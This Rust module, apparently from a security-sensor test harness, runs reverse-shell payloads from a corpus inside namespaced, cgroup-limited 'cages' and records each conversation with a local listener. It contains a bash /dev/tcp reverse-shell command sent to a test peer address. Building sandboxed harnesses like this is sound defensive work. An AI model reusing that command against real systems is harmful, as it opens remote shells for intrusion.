//! One payload from its list to its end: its network, its other side, its cage, and what was
//! said. What the sensor saw of it is not known here.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::io::{BufRead as _, BufReader};
use std::os::fd::RawFd;
use std::os::linux::fs::MetadataExt as _;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use anyhow::{Context, Result, bail};

use super::cage::{Parent, Spec};
use super::cgroup::Cgroup;
use super::conversation::{self, Outcome, TRACE};
use super::corpus::Payload;
use super::fill::{self, Values};
use super::listener::{HTTP_PORT, Listener, Mode, PORT, PORT2};
use super::network::{Address, Network};
use super::renamed::Renamed;
use super::root::Root;
use crate::exec;
use crate::mount::check;

/// What stands for `{shell}` where the list has no opinion.
const SHELL: &str = "/bin/bash";

/// One way to run a payload.
#[derive(Clone, Copy, Debug)]
pub(super) struct Way {
    pub(super) parent: Parent,
    pub(super) address: Address,
    pub(super) is_renamed: bool,
}

/// How it went, and which process namespace it was in. The namespace is kept, so that no other
/// gets its number.
pub(super) struct Ran {
    pub(super) outcome: Outcome,
    pub(super) namespace: u64,
    _kept: File,
    /// The end of what it wrote beside the connection.
    pub(super) log: String,
}

/// Runs a payload.
pub(super) fn run(payload: &Payload, way: Way, root: &Root, scratch: &Path) -> Result<Ran> {
    let missing = root.missing(payload);
    if !missing.is_empty() {
        bail!("Debian has no package {}", missing.join(", "));
    }
    let mode = Mode::of(payload)?;
    let network = Network::new(way.address)?;
    let cgroup = (way.parent == Parent::Systemd)
        .then(|| Cgroup::new("app"))
        .transpose()?;
    let spec = spec(payload, way, root, &network, scratch, cgroup.as_ref())?;
    let (ip, _) = network.peer_address();
    let script = format!("bash -c 'bash -i >& /dev/tcp/{ip}/{PORT} 0>&1'\n");
    let tls = scratch.join("tls");
    let listener = Listener::start(mode, payload.kind, &network, script, tls)?;
    let mut cage = Cage::start(&spec, network.server().fd(), scratch)?;
    let (namespace, kept) = cage.started()?;
    let trace = payload.blind.then(|| cage.path(TRACE)).transpose()?;
    let outcome = conversation::converse(listener.heard(), trace.as_deref());
    drop(listener);
    Ok(Ran {
        outcome,
        namespace,
        _kept: kept,
        log: cage.end(),
    })
}

fn spec(
    payload: &Payload,
    way: Way,
    root: &Root,
    network: &Network,
    scratch: &Path,
    cgroup: Option<&Cgroup>,
) -> Result<Spec> {
    let resolve = |word: &str| root.program(word);
    let mut renamed = Renamed::new(&payload.id, &payload.interpreter, &resolve);
    let mut rewrite = |text: &str| {
        if way.is_renamed {
            renamed.rewrite(text)
        } else {
            text.to_owned()
        }
    };
    let shell = rewrite(payload.shell_hint.as_deref().unwrap_or(SHELL));
    let mut values = values(network, shell);
    for part in payload.encode.as_slice() {
        let mut part = part.clone();
        part.inner = rewrite(&part.inner);
        values.push((part.var.clone(), fill::encode(&part, &values)?));
    }
    let command = fill::fill(&rewrite(&payload.command), &values);
    let setup = payload.setup.as_slice().iter();
    let setup = setup
        .map(|line| fill::fill(&rewrite(line), &values))
        .collect();
    let shell = rewrite(&payload.host_shell);
    let place = scratch.join("mount");
    fs::create_dir_all(&place).with_context(|| format!("cannot make {}", place.display()))?;
    Ok(Spec {
        root: root.dir(),
        scratch: place,
        parent: way.parent,
        shell,
        command,
        setup,
        alternatives: root.alternatives(payload),
        copies: if way.is_renamed {
            renamed.copies
        } else {
            BTreeMap::new()
        },
        keep_stdin_open: payload.keep_stdin_open,
        cgroup: cgroup.map(|cgroup| cgroup.path().to_owned()),
    })
}

fn values(network: &Network, shell: String) -> Values {
    let (ip, ip6) = network.peer_address();
    [
        ("ip", ip.to_string()),
        ("ip6", ip6.to_string()),
        ("port", PORT.to_string()),
        ("port2", PORT2.to_string()),
        ("http_port", HTTP_PORT.to_string()),
        ("shell", shell),
    ]
    .map(|(name, value)| (name.to_owned(), value))
    .to_vec()
}

/// The process that keeps a cage; when it is gone, so is everything in it.
struct Cage {
    keeper: Child,
    log: PathBuf,
}

impl Cage {
    fn start(spec: &Spec, network: RawFd, scratch: &Path) -> Result<Self> {
        let (file, log) = (scratch.join("cage.json"), scratch.join("cage.log"));
        let text = serde_json::to_string(spec).context("a cage that cannot be written")?;
        fs::write(&file, text).with_context(|| format!("cannot write {}", file.display()))?;
        let errors =
            File::create(&log).with_context(|| format!("cannot write {}", log.display()))?;
        let program = std::env::current_exe().context("who are we?")?;
        let mut command = Command::new(program);
        command
            .arg("payload-cage")
            .arg(&file)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(errors);
        exec::end_with_us(&mut command);
        // SAFETY: between fork and exec a single system call, without memory; the descriptor is
        // open as long as the network lives, which is longer than this call.
        unsafe {
            command.pre_exec(move || check(libc::setns(network, libc::CLONE_NEWNET)));
        }
        let keeper = command.spawn().context("cannot start a cage")?;
        Ok(Self { keeper, log })
    }

    /// Waits until the payload has been started. The process namespace of the cage.
    fn started(&mut self) -> Result<(u64, File)> {
        let out = self.keeper.stdout.take().context("no pipe from the cage")?;
        let mut line = String::new();
        BufReader::new(out)
            .read_line(&mut line)
            .context("cannot hear the cage")?;
        if line.trim_end() != "started" {
            bail!("{}", self.said());
        }
        let path = format!("/proc/{}/ns/pid_for_children", self.keeper.id());
        let namespace = File::open(&path).with_context(|| format!("cannot open {path}"))?;
        let number = namespace.metadata().context("no namespace")?.st_ino();
        Ok((number, namespace))
    }

    /// A path in it as seen from outside.
    fn path(&self, inside: &str) -> Result<PathBuf> {
        let keeper = self.keeper.id();
        let children = format!("/proc/{keeper}/task/{keeper}/children");
        let first = fs::read_to_string(&children).with_context(|| format!("no {children}"))?;
        let first = first.split_whitespace().next().context("an empty cage")?;
        Ok(format!("/proc/{first}/root{inside}").into())
    }

    /// Ends it and all in it. The end of what was written in it.
    fn end(mut self) -> String {
        self.kill();
        self.said()
    }

    fn kill(&mut self) {
        let _ = self.keeper.kill();
        let _ = self.keeper.wait();
    }

    fn said(&self) -> String {
        const KEPT: usize = 400;
        let text = fs::read(&self.log).unwrap_or_default();
        let end = text.len().saturating_sub(KEPT);
        let end = text.get(end..).unwrap_or_default();
        String::from_utf8_lossy(end).trim().to_owned()
    }
}

impl Drop for Cage {
    fn drop(&mut self) {
        self.kill();
    }
}
